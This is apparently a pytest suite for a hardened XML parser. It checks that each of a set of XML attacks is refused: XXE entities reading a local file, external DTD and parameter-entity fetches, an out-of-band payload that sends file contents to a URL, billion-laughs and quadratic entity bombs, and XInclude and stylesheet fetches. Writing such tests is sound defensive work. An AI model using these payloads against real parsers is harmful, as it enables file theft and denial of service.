"""No entity of an answer is expanded and no document type is followed: no file, no network, no time."""

import os
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from providers.toolkit.errors import Unreadable
from providers.toolkit.formats import parse_xml
from tests.support.listening import Listener, listening

SECRET = "what-is-in-the-file"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.fixture
def server() -> Iterator[Listener]:
    """Has the second half of each attack, where the first comes to fetch it."""
    with listening() as running:
        running.answer, running.content_type = b'<!ENTITY b "from-the-network">', "application/xml-dtd"
        yield running


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "secret"
    path.write_text(SECRET)
    return path


ATTACKS = {
    "a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file://{file}">]><a>&b;</a>',
    "a file in an attribute": '<!DOCTYPE a [<!ENTITY b SYSTEM "file://{file}">]><a x="&b;"/>',
    "an address": '<!DOCTYPE a [<!ENTITY b SYSTEM "{url}/b">]><a>&b;</a>',
    "a public id": '<!DOCTYPE a [<!ENTITY b PUBLIC "-//x//y" "{url}/b">]><a>&b;</a>',
    "a document type elsewhere": '<!DOCTYPE a SYSTEM "{url}/a.dtd"><a>&b;</a>',
    "a document type in a file": '<!DOCTYPE a SYSTEM "file://{file}"><a/>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p"> %p;]><a>&b;</a>',
    "a parameter entity of a file": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{file}"> %p;]><a/>',
    "out by the address": (
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{file}">'
        "<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{url}/?%f;'>\"> %e; %s;]><a/>"
    ),
    "billion laughs": '<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]><a>&l11;</a>',
    "quadratic": '<!DOCTYPE a [<!ENTITY l "{long}">]><a>{many}</a>',
    "an inner entity": '<!DOCTYPE a [<!ENTITY b "words">]><a>&b;</a>',
    "a document type that does nothing": "<!DOCTYPE a><a/>",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_it_is_refused(server: Listener, file: Path, attack: str, encoding: str) -> None:
    parts = {"file": file, "url": server.url, "laughs": LAUGHS, "long": "l" * 50_000, "many": "&l;" * 50_000}
    for name, value in parts.items():
        attack = attack.replace("{" + name + "}", str(value))
    began = time.monotonic()
    with pytest.raises(Unreadable) as refused:
        parse_xml(attack.encode(encoding))
    assert time.monotonic() - began < 1
    assert SECRET not in str(refused.value)
    assert not server.heard


FIFOS = {name: attack for name, attack in ATTACKS.items() if "{file}" in attack}


@pytest.mark.parametrize("attack", FIFOS.values(), ids=FIFOS)
def test_no_file_is_even_opened(server: Listener, tmp_path: Path, attack: str) -> None:
    """Whoever opens this one waits: it has no other end."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    ended = threading.Event()

    def parse() -> None:
        with suppress(Unreadable):
            parse_xml(attack.replace("{file}", str(pipe)).replace("{url}", server.url).encode())
        ended.set()

    threading.Thread(target=parse, daemon=True).start()
    in_time = ended.wait(timeout=5)
    if not in_time:
        os.close(os.open(pipe, os.O_RDWR | os.O_NONBLOCK))  # lets it go
    assert in_time


def test_what_is_included_stays_outside(server: Listener, file: Path) -> None:
    """These need no document type; nobody follows them."""
    root = parse_xml(
        f'<?xml-stylesheet href="{server.url}/x.xsl"?><a xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{server.url}/x.xsd">'
        f'<xi:include href="file://{file}" parse="text"/><xi:include href="{server.url}"/></a>'.encode()
    )
    assert "".join(root.itertext()) == ""
    assert not server.heard
